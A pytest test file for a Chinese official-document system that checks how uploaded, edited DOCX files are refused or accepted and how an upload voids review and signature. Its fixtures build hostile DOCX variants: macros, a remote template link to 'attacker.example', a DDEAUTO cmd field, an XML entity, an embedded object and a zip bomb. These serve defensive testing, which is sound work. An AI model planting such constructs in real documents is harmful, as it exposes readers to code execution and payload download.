"""An edited DOCX that comes back: what is refused, what it replaces, and that it voids review and signature."""

import io
import zipfile
from collections.abc import Callable
from dataclasses import replace

import pytest

from cast import AT, Cast
from lianxi.core.refusals import BadInput
from lianxi.papers.actions import (
    issue_draft,
    number_draft,
    review_draft,
    revise_draft,
    sign_draft,
    submit_draft,
    upload_draft,
    withdraw_upload,
)
from lianxi.papers.drafting import draft_document
from lianxi.papers.files import Upload, read_file
from lianxi.papers.incoming import docx_lines, open_docx
from lianxi.papers.layout import Paragraph, Stage, render_docx
from lianxi.papers.models import PaperDraft
from lianxi.papers.ofd import render_ofd
from lianxi.papers.pdf import render_pdf
from papers.paths import TITLE, deputy, drafted, numbered, signed

Change = Callable[[dict[str, bytes]], None]


def as_docx(draft: PaperDraft, change: Change | None = None) -> bytes:
    """The draft's DOCX as somebody would save it again, its parts changed by `change`."""
    made = render_docx(draft_document(draft, AT.date(), Stage.FINAL))
    with zipfile.ZipFile(io.BytesIO(made)) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    if change is not None:
        change(parts)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return buffer.getvalue()


def _reword(parts: dict[str, bytes]) -> None:
    document = parts["word/document.xml"].decode()
    assert "特此函告。" in document
    parts["word/document.xml"] = document.replace("特此函告。", "特此函告，请予支持。").encode()


def _macro(parts: dict[str, bytes]) -> None:
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0"


def _macro_type(parts: dict[str, bytes]) -> None:
    types = parts["[Content_Types].xml"]
    kind = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    assert kind in types
    parts["[Content_Types].xml"] = types.replace(
        kind, b"application/vnd.ms-word.document.macroEnabled.main+xml"
    )


def _link(parts: dict[str, bytes]) -> None:
    rels = parts["word/_rels/document.xml.rels"].decode()
    own = '<Relationship Id="rId99" Type="x" Target="http://attacker.example/t.dotm" TargetMode="External"/>'
    parts["word/_rels/document.xml.rels"] = rels.replace(
        "</Relationships>", f"{own}</Relationships>"
    ).encode()


def _object(parts: dict[str, bytes]) -> None:
    parts["word/embeddings/oleObject1.xls"] = b"\xd0\xcf\x11\xe0"


def _bomb(parts: dict[str, bytes]) -> None:
    parts["word/media/image1.bmp"] = b"\0" * 70_000_000


def _entity(parts: dict[str, bytes]) -> None:
    xml = parts["word/document.xml"].split(b"?>", 1)
    parts["word/document.xml"] = xml[0] + b'?><!DOCTYPE x [<!ENTITY a "b">]>' + xml[1]


def _field(parts: dict[str, bytes]) -> None:
    field = '<w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\cmd </w:instrText></w:r></w:p>'
    parts["word/document.xml"] = parts["word/document.xml"].decode().replace("</w:p>", field, 1).encode()


def _tracked(parts: dict[str, bytes]) -> None:
    mark = '<w:ins w:id="1" w:author="x"><w:r><w:t>改</w:t></w:r></w:ins></w:p>'
    parts["word/document.xml"] = parts["word/document.xml"].decode().replace("</w:p>", mark, 1).encode()


def _broken(parts: dict[str, bytes]) -> None:
    parts["word/document.xml"] = parts["word/document.xml"][:-20]


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (_macro, "有宏"),
        (_macro_type, "有宏"),
        (_link, "外部链接“http://attacker.example/t.dotm”"),
        (_object, "嵌入了其他对象"),
        (_bomb, "解压后大得不正常"),
        (_entity, "实体定义"),
        (_field, "读取其他文件的域"),
        (_tracked, "没有接受的修订"),
        (_broken, "已损坏"),
    ],
)
def test_a_harmful_docx_is_refused(cast: Cast, change: Change, said: str) -> None:
    draft = signed(cast)
    with pytest.raises(BadInput) as refused:
        upload_draft(cast.staff, AT, draft_id=draft.pk, file=Upload("改.docx", as_docx(draft, change)))
    assert said in refused.value.message
    draft.refresh_from_db()
    assert (draft.state, draft.upload) == ("signed", None)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("改.docm", b"PK\x03\x04"),
        ("改.doc", b"\xd0\xcf\x11\xe0"),
        ("改.docx", b"<html>"),
        ("改.docx", b"PK\x03\x04"),
    ],
)
def test_another_kind_of_file_is_refused(name: str, content: bytes) -> None:
    with pytest.raises(BadInput):
        open_docx(Upload(name, content))


def test_an_upload_voids_review_and_signature_and_keeps_the_number(cast: Cast) -> None:
    draft = numbered(cast)
    back = upload_draft(cast.staff, AT, draft_id=draft.pk, file=Upload("改.docx", as_docx(draft, _reword)))
    assert (back.state, back.reviewed_by, back.signed_by, back.signed_on) == ("draft", "", "", None)
    assert back.sequence == 1


def again(cast: Cast, draft: PaperDraft) -> PaperDraft:
    submit_draft(cast.staff, AT, draft_id=draft.pk)
    review_draft(deputy(cast), AT, draft_id=draft.pk)
    sign_draft(cast.director, AT, draft_id=draft.pk)
    return number_draft(cast.staff, AT, draft_id=draft.pk)


def test_the_uploaded_text_is_the_text_of_record(cast: Cast) -> None:
    draft = numbered(cast)
    content = as_docx(draft, _reword)
    upload_draft(cast.staff, AT, draft_id=draft.pk, file=Upload("改.docx", content))
    paper = issue_draft(cast.staff, AT, draft_id=again(cast, draft).pk).paper
    assert paper is not None
    assert paper.ofd is None
    assert (paper.source, paper.pdf, paper.number) == ("upload", None, "泉职防联函〔2026〕1号")
    assert read_file(paper.file) == content
    said = [block["text"] for block in paper.document["body"]]
    assert "特此函告，请予支持。" in said
    assert "特此函告。" not in said


def test_the_units_own_pdf_goes_with_it(cast: Cast) -> None:
    draft = numbered(cast)
    file = Upload("改.docx", as_docx(draft, _reword))
    with pytest.raises(BadInput, match="不是 PDF"):
        upload_draft(cast.staff, AT, draft_id=draft.pk, file=file, pdf=Upload("a.pdf", b"PK"))
    document = draft_document(draft, AT.date(), Stage.FINAL)
    other = Upload("a.pdf", render_pdf(document))
    with pytest.raises(BadInput, match="没有 DOCX 里的“特此函告，请予支持。”"):
        upload_draft(cast.staff, AT, draft_id=draft.pk, file=file, pdf=other)
    texts = (*document.body[:-1], Paragraph("特此函告，请予支持。"))
    own = Upload("a.pdf", render_pdf(replace(document, body=texts)))
    upload_draft(cast.staff, AT, draft_id=draft.pk, file=file, pdf=own)
    paper = issue_draft(cast.staff, AT, draft_id=again(cast, draft).pk).paper
    assert paper is not None
    assert paper.pdf is not None
    assert read_file(paper.pdf) == own.content
    assert paper.ofd is not None
    assert read_file(paper.ofd) == render_ofd(own.content)


def test_a_text_without_its_number_is_not_issued(cast: Cast) -> None:
    draft = signed(cast)
    upload_draft(cast.staff, AT, draft_id=draft.pk, file=Upload("改.docx", as_docx(draft, _reword)))
    draft = again(cast, draft)
    with pytest.raises(BadInput, match="没有发文字号“泉职防联函〔2026〕1号”"):
        issue_draft(cast.staff, AT, draft_id=draft.pk)


def test_words_of_an_uploaded_text_are_not_changed_on_the_page(cast: Cast) -> None:
    draft = drafted(cast)
    upload_draft(cast.staff, AT, draft_id=draft.pk, file=Upload("改.docx", as_docx(draft, _reword)))
    draft.refresh_from_db()
    given = {
        "draft_id": draft.pk,
        "title": TITLE,
        "seen": draft.version,
        "unit_ids": [cast.unit("市住建局").pk],
    }
    with pytest.raises(BadInput, match="在页面上改正文改不到它"):
        revise_draft(cast.staff, AT, **given, text="另写一段。")
    assert (
        revise_draft(cast.staff, AT, **given, text=draft.text.replace("\n", "\r\n"), note="略").note == "略"
    )


def test_an_upload_can_be_set_aside(cast: Cast) -> None:
    draft = numbered(cast)
    upload_draft(cast.staff, AT, draft_id=draft.pk, file=Upload("改.docx", as_docx(draft, _reword)))
    withdraw_upload(cast.staff, AT, draft_id=draft.pk)
    paper = issue_draft(cast.staff, AT, draft_id=again(cast, draft).pk).paper
    assert paper is not None
    assert paper.source == "model"
    assert any(
        line == "特此函告。" for line in docx_lines(open_docx(Upload("a.docx", read_file(paper.file))))
    )


def test_text_is_read_in_order_and_once(cast: Cast) -> None:
    draft = numbered(cast)
    lines = docx_lines(open_docx(Upload("改.docx", as_docx(draft))))
    assert lines.count("特此函告。") == 1
    assert lines.index("一、报送内容") < lines.index("张三") < lines.index("特此函告。")
